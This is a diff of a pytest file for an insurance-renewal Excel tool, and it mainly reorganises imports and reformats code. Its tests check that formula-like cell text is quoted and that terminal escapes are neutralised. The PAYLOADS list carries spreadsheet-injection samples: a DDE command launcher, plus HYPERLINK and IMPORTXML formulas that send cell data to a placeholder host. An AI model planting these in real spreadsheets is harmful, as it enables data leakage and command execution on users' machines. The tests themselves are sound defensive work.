@@ -14,19 +14,37 @@ import openpyxl
 import pandas as pd
 import pytest
 from click.testing import CliRunner
-
 from fake_excel import FakeBook
 from registers import D, policy
-from renewal_xl.cli import main
+
+from renewal_xl.cli.main import main
 from renewal_xl.columns import REGISTER, TRACKING
-from renewal_xl.sheets.report import Report, Sheet, Table
-from renewal_xl.sheets.text import needs_quote
+from renewal_xl.io.text import needs_quote
+from renewal_xl.reports.spec import Report, Sheet, Table
 from udfs.xlbook import XlBook
 
-PAYLOADS = ['=HYPERLINK("http://example.invalid/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
-            "=cmd|' /C calc'!A0", "#N/A"]
-TEXT_COLUMNS = ("policy_no", "vin", "plate", "customer", "phone", "customer_type", "salesperson", "agency", "channel",
-                "coverage")
+PAYLOADS = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    "#N/A",
+]
+TEXT_COLUMNS = (
+    "policy_no",
+    "vin",
+    "plate",
+    "customer",
+    "phone",
+    "customer_type",
+    "salesperson",
+    "agency",
+    "channel",
+    "coverage",
+)
 EXTRA = '=IMPORTXML("http://example.invalid","//a")'  # a column of the user's, header and cells
 
 
@@ -44,7 +62,9 @@ def _register(path):
 
 def _tracking(path):
     rows = [[f"{p}{k}", p, p, p, p] for k, p in enumerate(PAYLOADS)]
-    pd.DataFrame(rows, columns=list(TRACKING.values())).to_csv(path, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL)
+    pd.DataFrame(rows, columns=list(TRACKING.values())).to_csv(
+        path, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL
+    )
     return path
 
 
@@ -83,23 +103,29 @@ def test_the_check_lines_on_the_terminal_are_plain(tmp_path):
     pd.DataFrame(rows, columns=list(REGISTER)).rename(columns=REGISTER).to_csv(path, index=False, quoting=csv.QUOTE_ALL)
     result = CliRunner().invoke(main, ["check", str(path), "--as-of", "2026-01-20"])
     assert result.exit_code == 1
-    assert result.stdout.splitlines()[:2] == ["第 2 行 P1 车牌号=\\x09=1+1: 车牌号格式不符 (应如 鄂A·12345)",
-                                              "第 3 行 P2 车牌号=\\x0d=1+1\\x1b[2J: 车牌号格式不符 (应如 鄂A·12345)"]
+    assert result.stdout.splitlines()[:2] == [
+        "第 2 行 P1 车牌号=\\x09=1+1: 车牌号格式不符 (应如 鄂A·12345)",
+        "第 3 行 P2 车牌号=\\x0d=1+1\\x1b[2J: 车牌号格式不符 (应如 鄂A·12345)",
+    ]
 
 
 def test_the_macros_excel_writer_quotes_formula_like_text():
     book = FakeBook("保单台账")
-    table = Table(pd.DataFrame({"客户名称": ["=1+1", "张三", "#N/A"], "=x": ["@a", "b", "-1"], "保费": [1.0, 2.0, -3.0]}))
+    table = Table(
+        pd.DataFrame({"客户名称": ["=1+1", "张三", "#N/A"], "=x": ["@a", "b", "-1"], "保费": [1.0, 2.0, -3.0]})
+    )
     XlBook(book).write_sheet(Sheet("续保清单", [table], notes=["+note"]), replace=False)
     ws = book.sheets["续保清单"]
     assert ws.row(1) == ["'+note"]
     assert ws.row(3) == ["客户名称", "'=x", "保费"]
-    assert ws.row(4) == ["'=1+1", "'@a", 1.0] and ws.row(5) == ["张三", "b", 2.0] and ws.row(6) == ["'#N/A", "'-1", -3.0]
+    assert (
+        ws.row(4) == ["'=1+1", "'@a", 1.0] and ws.row(5) == ["张三", "b", 2.0] and ws.row(6) == ["'#N/A", "'-1", -3.0]
+    )
 
 
 def test_the_macros_over_a_workbook_file_quote_too(tmp_path):
-    from renewal_xl.sheets.openpyxl_book import OpenpyxlBook
-    from renewal_xl.sheets.xlsx_writer import write_report
+    from renewal_xl.io.openpyxl_book import OpenpyxlBook
+    from renewal_xl.io.xlsx_writer import write_report
 
     path = tmp_path / "book.xlsx"
     write_report(Report([Sheet("保单台账", [Table(pd.DataFrame({"a": [1]}))])]), path, marker=False)
